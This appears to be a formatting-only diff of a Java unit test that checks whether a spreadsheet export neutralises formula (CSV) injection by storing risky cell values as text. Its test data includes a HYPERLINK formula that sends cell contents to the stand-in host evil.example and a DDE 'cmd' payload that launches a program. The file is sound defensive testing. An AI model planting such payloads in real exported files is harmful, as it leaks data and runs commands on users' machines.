@@ -32,8 +32,18 @@ class ExcelExportTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=1+1", "+86 138 0000 0000",
-        "-2+3+cmd|' /C calc'!A0", "-3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "＝1+1"})
+    @ValueSource(
+            strings = {
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
+                "=1+1",
+                "+86 138 0000 0000",
+                "-2+3+cmd|' /C calc'!A0",
+                "-3",
+                "@SUM(A1:A2)",
+                "\t=1+1",
+                "\r=1+1",
+                "＝1+1"
+            })
     void aCellThatAFormulaCouldStartWithIsQuotedText(String typed) throws Exception {
         Cell cell = exported(typed);
         assertEquals(CellType.STRING, cell.getCellType(), "never a formula cell");
@@ -54,7 +64,11 @@ class ExcelExportTest {
     @org.junit.jupiter.api.Test
     void theFileNameCarriesTheDateAndTimeInTheConfiguredZone() {
         java.time.Instant at = java.time.Instant.parse("2026-12-04T16:30:00Z");
-        assertEquals("tickets-2026-12-05-0030.xlsx", ExcelExport.fileName("tickets", at, java.time.ZoneId.of("Asia/Shanghai")));
-        assertEquals("tickets-2026-12-04-1130.xlsx", ExcelExport.fileName("tickets", at, java.time.ZoneId.of("America/New_York")));
+        assertEquals(
+                "tickets-2026-12-05-0030.xlsx",
+                ExcelExport.fileName("tickets", at, java.time.ZoneId.of("Asia/Shanghai")));
+        assertEquals(
+                "tickets-2026-12-04-1130.xlsx",
+                ExcelExport.fileName("tickets", at, java.time.ZoneId.of("America/New_York")));
     }
 }
